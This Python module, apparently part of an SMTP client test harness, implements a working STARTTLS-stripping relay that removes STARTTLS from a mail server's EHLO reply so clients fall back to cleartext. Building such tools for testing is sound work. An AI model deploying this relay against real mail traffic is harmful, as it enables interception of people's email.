"""An active attacker between client and MX: a TCP relay that strips STARTTLS from the EHLO answer.

Everything is passed on unchanged except the server's reply to EHLO, from which the
``STARTTLS`` line is removed (the last line keeps its ``250 `` end marker). A client that
insists on TLS must then refuse the server; one that does not sends the mail in clear,
through the relay, to the real server. ``connections`` counts the sessions relayed.
"""

from __future__ import annotations

import contextlib
import socket

from .tcp import TcpRelay


def _strip(lines: list[bytes]) -> list[bytes]:
    """An EHLO reply (lines with CRLF) without its STARTTLS line, still a well-formed multi-line reply."""
    kept = [ln for ln in lines if ln[4:].strip().upper() != b"STARTTLS"]
    if kept and len(kept) < len(lines):
        kept = [ln[:3] + b"-" + ln[4:] for ln in kept[:-1]] + [kept[-1][:3] + b" " + kept[-1][4:]]
    return kept


class StartTlsStripper(TcpRelay):
    """Listens on ``host:port`` and relays each connection to ``upstream`` with STARTTLS removed."""

    def __init__(self, host: str, port: int, upstream: tuple[str, int]) -> None:
        super().__init__(upstream, host, port, name="starttls-stripper")
        self.stripped = 0

    def backward(self, server: socket.socket, client: socket.socket) -> None:
        """The server's replies, reply by reply; a multi-line 250 reply (EHLO's) loses its STARTTLS line."""
        reader = server.makefile("rb")
        pending: list[bytes] = []
        with contextlib.suppress(OSError, ValueError):
            while line := reader.readline():
                pending.append(line)
                if len(line) >= 4 and line[3:4] == b"-":
                    continue  # a multi-line reply goes on
                if len(pending) > 1 and pending[0].startswith(b"250"):
                    stripped = _strip(pending)
                    self.stripped += len(pending) - len(stripped)
                    pending = stripped
                client.sendall(b"".join(pending))
                pending = []
        self.finished(server, client)
